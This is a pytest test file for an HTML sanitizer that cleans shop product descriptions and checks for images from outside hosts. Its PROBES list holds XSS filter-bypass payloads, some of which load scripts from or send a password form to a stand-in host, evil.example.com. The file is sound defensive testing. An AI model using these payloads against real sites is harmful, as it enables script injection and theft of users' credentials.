"""Product descriptions: what staff may write of HTML, and nothing that a script could ride on."""

import re

import pytest

from chalicelib.services.catalogue.descriptions import TAGS, cleaned, has_foreign_image

OURS = "https://media.example.com/media/m/a.jpg"
IMAGE = f'<img src="{OURS}">'

# The classic ways around a filter.
PROBES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example.com/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src=" &#14; javascript:alert(1)">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="vbscript:msgbox(1)">',
    f'<img src="{OURS}" srcset="//evil.example.com/x 2x" style="width:expression(alert(1))">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)><embed src=//evil.example.com>",
    "<form action=//evil.example.com><input name=password></form>",
    "<a href='javascript:alert(1)'>看这里</a>",
    "<p onclick=alert(1) style='position:fixed' class=button id=login>付款</p>",
    "<base href=//evil.example.com><link rel=stylesheet href=x><meta http-equiv=refresh>",
    "<style>@import '//evil.example.com'</style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p title=`<img src=x onerror=alert(1)>`>",
    "<b <script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
]


@pytest.mark.parametrize("html", PROBES)
def test_nothing_comes_through_but_plain_tags(html: str) -> None:
    clean = cleaned(html)

    tags = re.findall(r"<[^>]*>?", clean)
    for tag in tags:
        name = re.fullmatch(r"</?(\w+)>", tag)
        image = re.fullmatch(r'<img(?: src="[^"<>]*")?>', tag)
        assert image or (name and name.group(1) in TAGS), clean
    assert "javascript:" not in "".join(tags)
    assert "data:" not in "".join(tags)
    assert has_foreign_image(clean, lambda url: url == OURS) == ("<img" in clean.replace(IMAGE, ""))


@pytest.mark.parametrize("html", PROBES)
def test_clean_html_comes_out_as_it_is(html: str) -> None:
    assert cleaned(cleaned(html)) == cleaned(html)


def test_what_a_shop_writes_stays() -> None:
    html = (
        "<h3>红颜草莓</h3><p>清晨<b>采摘</b>，<em>当天</em>发出。<br>坏果包赔</p>"
        f'<ul><li>2 斤装</li><li>4 斤装</li></ul><img src="{OURS}">'
    )

    assert cleaned(html) == html
    assert not has_foreign_image(html, lambda url: url == OURS)


def test_plain_text_stays_text() -> None:
    assert cleaned("3 < 5 & 低温结晶") == "3 &lt; 5 &amp; 低温结晶"
    assert cleaned("第一行\n第二行") == "第一行\n第二行"


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://evil.example.com/1.jpg">',
        "<img>",
        f'<img src="{OURS}"><img src="{OURS}?x">',
        f'<p><img src="{OURS}#"></p>',
    ],
)
def test_picture_from_elsewhere_is_found(html: str) -> None:
    assert has_foreign_image(cleaned(html), lambda url: url == OURS)
